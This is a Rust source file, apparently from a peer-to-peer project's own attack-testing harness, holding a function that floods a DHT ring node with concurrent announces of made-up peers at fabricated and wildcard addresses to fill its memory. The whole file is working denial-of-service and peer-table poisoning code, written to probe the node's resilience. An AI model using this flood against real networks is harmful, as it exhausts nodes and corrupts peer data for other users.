//! Attackers that fill a node's memory with announces of peers that do not exist.

use futures_util::{StreamExt as _, stream};
use shoal_proto::{
    dht::v1::{AnnouncePeerRequest, dht_service_client::DhtServiceClient},
    types::v1::PeerInfo,
};
use uuid::Uuid;

use super::channel_from;

/// Announces `peers` nonexistent peers to a ring node, over one connection. Returns how many
/// announces were accepted.
pub async fn flood_ring(node: &str, peers: usize) -> anyhow::Result<usize> {
    /// Concurrent calls.
    const CONCURRENCY: usize = 32;
    let client = DhtServiceClient::new(channel_from("127.0.0.2", node).await?);
    let announce = |number: usize| {
        let mut client = client.clone();
        async move {
            let peer = PeerInfo {
                peer_id: Uuid::new_v4().to_string(),
                // As long as an address may be, and on another host, if the node believed it.
                address: format!("10.{}.{}.{}:7072", number >> 16, number >> 8 & 255, number & 255),
                ..PeerInfo::default()
            };
            let own = PeerInfo { address: "0.0.0.0:7072".to_owned(), ..peer.clone() };
            let content_id = format!("{:064x}", number / 500);
            let mut accepted = 0;
            for peer in [peer, own] {
                let request = AnnouncePeerRequest {
                    content_id: content_id.clone(),
                    peer: Some(peer),
                    ..AnnouncePeerRequest::default()
                };
                accepted += usize::from(client.announce_peer(request).await.is_ok());
            }
            accepted
        }
    };
    let calls = stream::iter(0..peers).map(announce).buffer_unordered(CONCURRENCY);
    Ok(calls.fold(0, async |sum, accepted| sum + accepted).await)
}
